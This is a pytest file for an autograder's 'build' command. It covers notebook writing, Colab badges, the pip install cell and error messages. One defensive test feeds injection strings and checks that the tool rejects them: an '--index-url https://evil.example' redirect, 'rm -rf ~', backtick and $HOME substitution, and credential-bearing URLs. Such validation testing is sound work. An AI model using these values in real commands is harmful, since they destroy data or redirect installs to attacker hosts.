"""`autograder build` at the command line: what it says, and its exit codes."""

from __future__ import annotations

import json
import shlex
import shutil
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from autograder.cli import main
from tests.author.built import ROOT, cells, source

pytestmark = pytest.mark.slow

NAME = "univariate_regression"


def build(*arguments: str | Path) -> Result:
    return CliRunner().invoke(main, ["build", *map(str, arguments)])


def test_it_writes_once_and_then_changes_nothing(tmp_path: Path) -> None:
    solutions = tmp_path / "solutions"
    solutions.mkdir()
    shutil.copy(ROOT / "solutions" / f"{NAME}.py", solutions)
    place = ("--solutions", solutions, "--out", tmp_path / "out")
    path = tmp_path / "out" / f"{NAME}.ipynb"
    stale = build("--check", *place)
    assert (stale.exit_code, stale.output) == (1, f"{path}: stale\n")
    assert not path.exists()
    assert (build(*place).output, build(*place).output) == (f"{path}: written\n", f"{path}: unchanged\n")
    fresh = build("--check", *place)
    assert (fresh.exit_code, fresh.output) == (0, f"{path}: up to date\n")


def test_a_badge_stays_until_another_one_is_asked_for(tmp_path: Path) -> None:
    place, path = (NAME, "--out", tmp_path), tmp_path / f"{NAME}.ipynb"
    for repository, said in (("school/course@spring/2", "written"), (None, "unchanged"), ("other/place", "written")):
        done = build(*place, *(("--repository", repository) if repository else ()))
        assert done.output == f"{path}: {said}\n"
        wanted = "school/course/blob/spring/2" if "other" not in (repository or "") else "other/place/blob/main"
        assert f"colab.research.google.com/github/{wanted}/assignments/{NAME}.ipynb" in path.read_text("utf-8")
    assert build(*place, "--check").exit_code == 0


WHEEL = "wheels/backprop_autograder-0.1.0-py3-none-any.whl"
ADDRESS = "git+https://example.org/school/backprop-autograder.git@v0.1.0#egg=x&y=%20"


@pytest.mark.parametrize("where", [WHEEL, ADDRESS, "https://example.org/x.whl?a=1", "git+ssh://git@example.org/x"])
def test_the_set_up_cell_installs_from_where_it_is_told_and_keeps_to_it(where: str, tmp_path: Path) -> None:
    place, path = (NAME, "--out", tmp_path), tmp_path / f"{NAME}.ipynb"
    assert build(*place, "--install-from", where).output == f"{path}: written\n"
    (line,) = [line for line in set_up(path).splitlines() if "pip" in line]
    assert shlex.split(line) == ["%pip", "install", "--quiet", where]
    assert build(*place).output == f"{path}: unchanged\n"
    assert build(*place, "--install-from", "backprop-autograder").output == f"{path}: written\n"
    assert "%pip install --quiet backprop-autograder\n" in set_up(path)


@pytest.mark.parametrize(
    "where",
    [
        'x.whl" --index-url "https://evil.example',
        "x.whl\nimport os",
        "x.whl\n",
        "x.whl; rm -rf ~",
        "https://example.org/$HOME",
        "https://example.org/{secret}",
        "https://example.org/`id`",
        "https://example.org/a b",
        "https://example.org/\\",
        "--editable=x.whl",
        "https://token@example.org/x.whl",
        "git+https://user:password@example.org/x",
        "another-package",
        "",
    ],
)
def test_nothing_that_leaves_the_quotes_or_gives_a_password_away_is_installed_from(where: str, tmp_path: Path) -> None:
    done = build(NAME, "--out", tmp_path, "--install-from", where)
    assert done.exit_code == 2
    assert "--install-from" in done.output
    assert list(tmp_path.iterdir()) == []


def set_up(path: Path) -> str:
    (cell,) = [c for c in cells(json.loads(path.read_text("utf-8"))) if "autograder.notebook import start" in source(c)]
    return source(cell)


def test_it_writes_otters_zip_where_it_is_told(tmp_path: Path) -> None:
    done = build(NAME, "--out", tmp_path / "out", "--otter-zip", tmp_path / "zips")
    assert done.exit_code == 0, done.output
    assert [p.name for p in (tmp_path / "zips").iterdir()] == [f"{NAME}-autograder.zip"]


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("nothing_like_this",), "nothing_like_this: this course has"),
        (("--plugin",), "name a folder for them with --otter-zip"),
        (("--repository", "just-a-name"), "write it as OWNER/NAME"),
        (("--check", "--otter-zip", "zips"), "--check writes nothing"),
        (("--package", "--solutions", "solutions"), "leave --solutions out"),
        (("--solutions", "no/such/folder"), "no folder with solutions at no/such/folder"),
    ],
)
def test_wrong_usage_is_said_in_a_line(arguments: tuple[str, ...], said: str) -> None:
    done = build(*arguments)
    assert done.exit_code == 2
    assert said in done.output
    assert "Traceback" not in done.output


def test_a_solution_that_cannot_be_built_is_said_in_a_line(tmp_path: Path) -> None:
    text = (ROOT / "solutions" / f"{NAME}.py").read_text(encoding="utf-8")
    (tmp_path / f"{NAME}.py").write_text(text.replace('written="direction"', 'written="elsewhere"'), encoding="utf-8")
    done = build("--solutions", tmp_path, "--out", tmp_path / "out")
    assert done.exit_code == 2
    assert "asks the written question 'elsewhere'; declare it" in done.output


def test_a_folder_that_cannot_be_written_is_said_in_a_line(tmp_path: Path) -> None:
    (tmp_path / "out").write_text("a file", encoding="utf-8")
    done = build(NAME, "--out", tmp_path / "out" / "below")
    assert done.exit_code == 2
    assert "cannot be written" in done.output


def test_without_otter_it_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys.modules["autograder.cli.build"], "NEEDED", ("no_such_module_here",))
    done = build(NAME)
    assert done.exit_code == 2
    assert "pip install 'backprop-autograder[build]'" in done.output
